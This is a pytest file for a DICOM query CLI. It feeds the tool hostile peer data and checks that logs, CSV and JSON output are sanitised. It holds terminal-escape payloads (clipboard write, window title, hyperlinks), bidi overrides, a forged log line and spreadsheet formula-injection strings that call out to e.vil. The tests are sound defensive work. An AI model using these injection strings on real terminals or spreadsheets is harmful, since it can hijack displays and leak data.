"""Hostile values: escape sequences, controls, bidi overrides and markup in peer data
never reach the terminal raw from the --batch CLI (log, CSV, JSON).

The peer (tests/faultscp.py) sends them in response values, in an element nobody
asked for, in a SpecificCharacterSet (which pydicom warns about), in the
ErrorComment of the final status and in its A-ASSOCIATE-AC. The tests capture
the bytes the CLI writes and look for every unsafe character; they also check
that the escaped, visible form is there (the user sees that something odd came)
and that JSON still carries the exact data.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from faultscp import FaultSCP, assert_no_traceback, run_findtui
from findtui.cli import ExitCode
from findtui.engine.sanitize import LogLines, SafeFormatter, json_safe, visible

ESC, BEL = "\x1b", "\x07"
HOSTILE = (
    f"A{ESC}[31mRED{ESC}[0m{BEL}"                 # CSI colours, BEL
    f"{ESC}]0;pwned title{BEL}"                  # OSC 0: window title
    f"{ESC}]52;c;ZWNobyBoYWNrZWQ={BEL}"          # OSC 52: clipboard write
    f"{ESC}]8;;https://e.vil{ESC}\\link{ESC}]8;;{ESC}\\"  # OSC 8 hyperlink, ST
    "\x9b2J\x9d0;c1 title\x9c\x85"               # C1: CSI, OSC, ST, NEL
    "\x00\x7f\x08\t\r\nI: Find SCP Result: 0x0000 (Success)"  # C0, DEL, forged log line
    "[bold red]markup[/bold red][link=https://e.vil]click[/link]"  # Rich markup
    "\u202eevil\u202c\u2066iso\u2069\u200b"       # bidi override, isolate, zero width
)
# What the terminal must never receive raw (\n ends lines and is allowed).
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
VISIBLE_FORMS = ["␛[31mRED", "␛]0;pwned title␇", "␛]52;c;ZWNobyBoYWNrZWQ=␇", "<U+009B>2J",
                 "<U+009D>0;c1 title", "<U+0085>", "␀␡␈␉␍␊I: Find SCP Result", "<U+202E>evil",
                 "[bold red]markup[/bold red][link=https://e.vil]click[/link]"]


def assert_terminal_safe(data: bytes) -> str:
    text = data.decode("utf-8")  # strictly UTF-8: no stray 8-bit C1 bytes either
    found = UNSAFE.search(text)
    if found is not None:
        start = found.start()
        raise AssertionError(f"raw {found.group()!r} at {start}: "
                             f"{text[max(0, start - 80):start + 40]!r}")
    return text


def hostile_script(s):
    utf8 = HOSTILE.encode("utf-8")
    latin1 = HOSTILE.replace("\u202e", "").replace("\u202c", "").replace("\u2066", "").replace(
        "\u2069", "").replace("\u200b", "").encode("latin-1")
    s.pending(s.element(0x00080005, "CS", b"ISO_IR 192") + s.element(0x00100010, "PN", utf8)
              + s.element(0x00100020, "LO", b"P0") + s.element(0x00104000, "LT", utf8)
              + s.element(0x00081030, "LO", utf8))  # StudyDescription: not asked for
    s.pending(s.element(0x00080005, "CS", b"ISO_IR 100") + s.element(0x00100010, "PN", latin1)
              + s.element(0x00100020, "LO", b"P1") + s.element(0x00104000, "LT", latin1))
    s.pending(s.element(0x00080005, "CS", f"ISO_IR {ESC}]0;cs{BEL}".encode())
              + s.element(0x00100020, "LO", b"P2"))
    s.final(0xC000, comment=HOSTILE.encode("utf-8")[:1000], offending=(0x00100010,))
    s.finish()


@pytest.fixture(scope="module")
def hostile_peer():
    with FaultSCP(hostile_script) as scp:
        yield scp
        assert not scp.errors


KEYS = ["-k", "QueryRetrieveLevel=PATIENT", "-k", "PatientName=", "-k", "PatientID=",
        "-k", "PatientComments="]


@pytest.mark.parametrize("level", ["-v", "-d"])
def test_log_is_terminal_safe(hostile_peer, level):
    run = run_findtui([level, hostile_peer.address, str(hostile_peer.port), *KEYS])
    assert run.returncode == ExitCode.FAILURE_STATUS, run.err[-2000:]
    err = assert_terminal_safe(run.stderr)
    assert_terminal_safe(run.stdout)
    for form in VISIBLE_FORMS:
        assert form in err, form
    assert "E: Error Comment: A␛[31mRED" in err
    assert "W: Unknown encoding 'ISO_IR ␛]0;cs␇'" in err  # pydicom's warning, peer data inside
    # One record is one line: the LF in the value forged no "I: Find SCP Result" line.
    assert [line for line in err.splitlines() if line.startswith("I: Find SCP Result")] == []
    if level == "-v":
        assert_no_traceback(run)


def test_csv_is_terminal_safe(hostile_peer):
    run = run_findtui(["-q", "--output-format", "csv", hostile_peer.address,
                       str(hostile_peer.port), *KEYS])
    assert run.returncode == ExitCode.FAILURE_STATUS
    assert run.stderr == b""
    out = assert_terminal_safe(run.stdout)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["PatientID"] for r in rows] == ["P0", "P1", "P2"]
    assert rows[0]["PatientComments"] == visible(HOSTILE)
    for form in VISIBLE_FORMS:
        assert form in rows[0]["PatientComments"], form
    assert "<U+009B>2J" in rows[1]["PatientComments"]  # 8-bit CSI byte in ISO_IR 100


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_is_terminal_safe_and_exact(hostile_peer, fmt):
    run = run_findtui(["-q", "--output-format", fmt, hostile_peer.address,
                       str(hostile_peer.port), *KEYS])
    assert run.returncode == ExitCode.FAILURE_STATUS
    out = assert_terminal_safe(run.stdout)
    items = json.loads(out) if fmt == "json" else [json.loads(x) for x in out.splitlines()]
    assert items[0]["00104000"]["Value"] == [HOSTILE.rstrip(" ")]  # the very same data
    assert "\\".join(items[0]["00081030"]["Value"]) == HOSTILE  # LO: a backslash splits values
    assert "\\u001b]52;c;" in out and "\\u202e" in out and "\\u009b" in out


def test_output_file_is_safe_too(hostile_peer, tmp_path):
    out = tmp_path / "r.csv"
    run = run_findtui(["-q", "--output-format", "csv", "--output", str(out),
                       hostile_peer.address, str(hostile_peer.port), *KEYS])
    assert run.returncode == ExitCode.FAILURE_STATUS
    assert_terminal_safe(out.read_bytes())


@pytest.mark.parametrize("name", [b"\x1b]0;x\x07\x1b[1m", b"\x1b]0;x\x07\x9b31m"])
def test_hostile_implementation_version_name_is_a_clean_failure(name):
    """pynetdicom refuses it (and logs it, which must be safe too)."""
    with FaultSCP(hostile_script, implementation_version=name) as scp:
        run = run_findtui(["-d", scp.address, str(scp.port), *KEYS])
    assert run.returncode == ExitCode.NETWORK
    err = assert_terminal_safe(run.stderr)
    assert "the peer answered with data that is not DICOM" in err


# --------------------------------------------------------------------------
# The pieces
# --------------------------------------------------------------------------


def test_visible_lives_in_the_engine_and_the_table_uses_it():
    from findtui.widgets import results_table

    assert results_table.visible is visible
    code = ("import sys, findtui.engine.sanitize, findtui.engine.output, findtui.engine.query; "
            "sys.exit(any(m in sys.modules for m in ('textual', 'rich')))")
    assert subprocess.run([sys.executable, "-c", code]).returncode == 0


def test_visible_examples():
    assert visible(f"{ESC}[2J") == "␛[2J"
    assert visible("\x9b\u202e\U000e0041") == "<U+009B><U+202E><U+E0041>"
    assert visible("Müller^山田 [b]") == "Müller^山田 [b]"


def _record(msg, *args, exc=False):
    exc_info = None
    if exc:
        try:
            raise ValueError(f"boom {ESC}[2J")
        except ValueError:
            exc_info = sys.exc_info()
    return logging.LogRecord("findtui", logging.ERROR, __file__, 1, msg, args, exc_info)


def test_safe_formatter():
    inner = logging.Formatter("%(levelname).1s: %(message)s")
    record = _record("value %s", f"a{ESC}]0;t{BEL}\nI: forged")
    assert SafeFormatter(inner).format(record) == "E: value a␛]0;t␇␊I: forged"
    assert record.args == (f"a{ESC}]0;t{BEL}\nI: forged",)  # others handlers see it as it was
    quiet = SafeFormatter(inner).format(_record("failed", exc=True))
    assert quiet == "E: failed"
    loud = SafeFormatter(inner, tracebacks=True).format(_record("failed", exc=True))
    assert loud.startswith("E: failed\nTraceback") and "boom ␛[2J" in loud and ESC not in loud


def test_printable_text_is_always_safe():
    """visible() and the log take str.isprintable() as a fast 'nothing to escape': that
    holds only while every character the escapes cover is non-printable."""
    from findtui.engine.sanitize import _unsafe_search
    assert [hex(c) for c in range(0x110000)
            if chr(c).isprintable() and _unsafe_search(chr(c))] == []


def test_safe_formatter_log_lines_are_each_a_safe_line():
    """A response's log lines go as one record (LogLines): each is prefixed and made
    visible on its own, as if logged one by one, whatever the inner format."""
    lines = LogLines(["Find SCP Response: 1", f"(0010,0010) PN [a{ESC}[2J\nI: forged]", ""])
    record = _record(lines)
    record.levelno, record.levelname = logging.INFO, "INFO"
    fast = SafeFormatter(logging.Formatter("%(levelname).1s: %(message)s")).format(record)
    assert fast.split("\n") == ["I: Find SCP Response: 1", "I: (0010,0010) PN [a␛[2J␊I: forged]",
                                "I: "]
    slow = SafeFormatter(logging.Formatter("[%(message)s] %(levelname)s")).format(record)
    assert slow.split("\n") == ["[Find SCP Response: 1] INFO",
                                "[(0010,0010) PN [a␛[2J␊I: forged]] INFO", "[] INFO"]
    assert str(lines).count("\n") == 2 and ESC not in str(lines)  # for any other handler


@settings(max_examples=300, deadline=None)
@given(st.recursive(st.text() | st.integers() | st.none(),
                    lambda inner: st.lists(inner, max_size=3)
                    | st.dictionaries(st.text(max_size=5), inner, max_size=3), max_leaves=8))
def test_json_safe_keeps_the_data_and_drops_the_controls(value):
    text = json_safe(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    assert UNSAFE.search(text) is None and not any(0xD800 <= ord(c) <= 0xDFFF for c in text)


# --- what the CLI prints from profiles and the history ----------------------------------


def _findtui(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "findtui", *args], capture_output=True,
                          stdin=subprocess.DEVNULL, timeout=60)


def test_profile_and_history_text_never_reaches_the_terminal_raw(tmp_path, findtui_config_dir):
    """A profiles file from someone else (its descriptions, names of files) and history keys
    printed by `profiles list/show` and `history` (--json too) go through the sanitiser."""
    text = json.dumps(HOSTILE)  # a TOML basic string is a JSON string
    imported = tmp_path / "theirs.toml"
    imported.write_text(f"[nodes.pacs]\naddress = \"h\"\nport = 104\ndescription = {text}\n"
                        f"[queries.q]\nkeys = [\"PatientName=X\"]\ndescription = {text}\n",
                        encoding="utf-8")
    assert _findtui("profiles", "import", str(imported)).returncode == 0
    for args in (("profiles", "list"), ("profiles", "show", "pacs"), ("profiles", "show", "q")):
        r = _findtui(*args)
        assert r.returncode == 0, r.stderr
        assert "pwned title" in assert_terminal_safe(r.stdout)
    keys = [f"PatientName={HOSTILE.replace(chr(0), '').replace(chr(10), '')}"]
    line = {"time": "2024-01-01T00:00:00+00:00", "address": "h", "port": 1,
            "calling_aet": "A", "called_aet": "B", "acse_timeout": 30.0, "dimse_timeout": 30.0,
            "network_timeout": 30.0, "max_pdu": 16382, "tls": None, "model": "patient",
            "keys": keys, "results": 0, "outcome": "success", "status": HOSTILE}
    (findtui_config_dir / "history.jsonl").write_text(json.dumps(line) + "\n")
    for args in (("history",), ("history", "--json")):
        r = _findtui(*args)
        assert r.returncode == 0, r.stderr
        out = assert_terminal_safe(r.stdout)
        assert "pwned title" in out
    assert json.loads(_findtui("history", "--json").stdout)["status"] == HOSTILE  # data intact


def test_profile_errors_on_the_batch_path_are_sanitised(tmp_path):
    """The error names the file: a folder name is text too (here with OSC and bidi)."""
    import os

    folder = tmp_path / f"cfg{ESC}]0;pwned{BEL}\u202e"
    folder.mkdir()
    (folder / "profiles.toml").write_text('[nodes.pacs]\naddress = "h"\nport = 0\n')
    r = subprocess.run([sys.executable, "-m", "findtui", "--batch", "--profile", "pacs", "-k",
                        "PatientID="], capture_output=True, stdin=subprocess.DEVNULL,
                       timeout=60, env={**os.environ, "FINDTUI_CONFIG_DIR": str(folder)})
    assert r.returncode == ExitCode.BAD_INPUT
    assert "port must be" in assert_terminal_safe(r.stderr)


# --------------------------------------------------------------------------
# Formula injection: --csv-excel-safe
# --------------------------------------------------------------------------

FORMULAS = {  # PatientID: (PatientName, PatientComments) as the peer sends them
    "F0": ('=HYPERLINK("https://e.vil/?"&A1,"click")', "@SUM(A1:A9)"),
    "F1": ("+1+1", "-2+3"),
    "F2": ("Doe^John", "a = b, no formula"),
}


def formula_script(s):
    for pid, (name, comments) in FORMULAS.items():
        s.pending(s.element(0x00080005, "CS", b"ISO_IR 192")
                  + s.element(0x00100010, "PN", name.encode())
                  + s.element(0x00100020, "LO", pid.encode())
                  + s.element(0x00104000, "LT", comments.encode()))
    s.final(0x0000)
    s.finish()


@pytest.fixture(scope="module")
def formula_peer():
    with FaultSCP(formula_script) as scp:
        yield scp
        assert not scp.errors


def _csv_rows(run) -> list[dict]:
    assert run.returncode == ExitCode.OK, run.err[-2000:]
    return list(csv.DictReader(io.StringIO(run.stdout.decode("utf-8"))))


def test_csv_keeps_values_as_they_came_by_default(formula_peer):
    rows = _csv_rows(run_findtui(["-q", "--output-format", "csv", formula_peer.address,
                                  str(formula_peer.port), *KEYS]))
    assert [(r["PatientName"], r["PatientComments"]) for r in rows] == list(FORMULAS.values())


def test_csv_excel_safe_neutralises_formulas(formula_peer, tmp_path):
    out = tmp_path / "safe.csv"
    run = run_findtui(["-q", "--output-format", "csv", "--csv-excel-safe", "--output", str(out),
                       formula_peer.address, str(formula_peer.port), *KEYS])
    assert run.returncode == ExitCode.OK, run.err[-2000:]
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
    assert [(r["PatientID"], r["PatientName"], r["PatientComments"]) for r in rows] == [
        ("F0", '\'=HYPERLINK("https://e.vil/?"&A1,"click")', "'@SUM(A1:A9)"),
        ("F1", "'+1+1", "'-2+3"),
        ("F2", "Doe^John", "a = b, no formula"),  # harmless cells are left alone
    ]


def test_excel_safe_covers_owasps_list():
    from findtui.engine.output import excel_safe

    for start in "=+-@\t\r":
        assert excel_safe(start + "1") == "'" + start + "1"
    assert excel_safe("") == "" and excel_safe("1-2") == "1-2" and excel_safe("'=x") == "'=x"


@pytest.mark.parametrize("fmt", [[], ["--output-format", "json"]])
def test_csv_excel_safe_without_csv_is_a_usage_error(formula_peer, fmt):
    run = run_findtui(["--csv-excel-safe", *fmt, formula_peer.address, str(formula_peer.port),
                       *KEYS])
    assert run.returncode == ExitCode.USAGE
    assert "--csv-excel-safe applies to CSV: add --output-format csv" in run.err
    assert_no_traceback(run)
